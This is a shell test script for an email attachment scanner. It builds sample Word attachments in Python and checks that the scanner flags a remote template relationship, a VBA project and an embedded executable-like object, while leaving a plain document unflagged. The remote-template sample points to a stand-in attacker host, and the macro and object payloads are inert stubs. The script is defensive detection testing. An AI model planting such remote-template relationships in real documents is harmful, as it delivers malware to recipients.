#!/usr/bin/env bash
# mail_ooxml.sh - what an Office Open XML attachment carries inside: a VBA
# project (by its name), an embedded object (read and checked as a file) and a
# relationship that loads a template from the network (remote template
# injection); and a plain document with only internal relationships is not
# flagged. The documents are built here with python's zipfile.
source "$(dirname "$0")/lib/mail.sh"

python3 - "$T" <<'PY'
import base64, io, sys, zipfile
from email.message import EmailMessage

CT = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
INTERNAL = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
            b'Target="styles.xml"/></Relationships>')
EXTERNAL = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://templates.evil.example/t.dotm" TargetMode="External"/></Relationships>')

def docx(parts):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CT)
        z.writestr("word/document.xml", b"<w:document/>")
        for name, data in parts.items():
            z.writestr(name, data)
    return b.getvalue()

def mail(path, filename, data):
    m = EmailMessage()
    m["From"] = "sender@partner.example"
    m["To"] = "staff@example.go.jp"
    m["Subject"] = "minutes"
    m.set_content("Minutes of the Tuesday meeting.")
    m.add_attachment(data, maintype="application",
                     subtype="vnd.openxmlformats-officedocument.wordprocessingml.document", filename=filename)
    open(path, "wb").write(bytes(m))

t = sys.argv[1]
mail(t + "/plain-docx.eml", "minutes.docx", docx({"word/_rels/document.xml.rels": INTERNAL}))
mail(t + "/template-docx.eml", "minutes.docx", docx({"word/_rels/settings.xml.rels": EXTERNAL}))
mail(t + "/active-docx.eml", "minutes.docx", docx({
    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(200),
    "word/embeddings/oleObject1.bin": b"MZ" + bytes(62) + b"embedded program, no code" * 4,
}))
PY

run "$MITSUKE" mail --output jsonl --no-yara "$T/plain-docx.eml" "$T/template-docx.eml" "$T/active-docx.eml"
expect_rc 1
# false positive check: internal relationships only, no macros, no objects
mail_verdict plain-docx.eml benign
jq_true '[.[] | select(.file | endswith("plain-docx.eml"))][0].reasons | length == 0'
jq_true '[.[] | select(.file | endswith("plain-docx.eml"))][0].attachments[0].type == "ooxml"'
# remote template: the target is named
mail_has template-docx.eml attachment.remote-template
jq_true '[.[] | select(.file | endswith("template-docx.eml"))][0].reasons[] | select(.code == "attachment.remote-template") | .message | contains("templates.evil.example/t.dotm")'
# a VBA project and an embedded object, which is checked as a file of its own
mail_has active-docx.eml attachment.macro
mail_has active-docx.eml attachment.ole-object
mail_has active-docx.eml attachment.executable
jq_true '[.[] | select(.file | endswith("active-docx.eml"))][0].attachments | map(.name) | index("word/embeddings/oleObject1.bin") != null'
jq_true '[.[] | select(.file | endswith("active-docx.eml"))][0].attachments | map(.name) | index("word/vbaProject.bin") == null'
echo ok
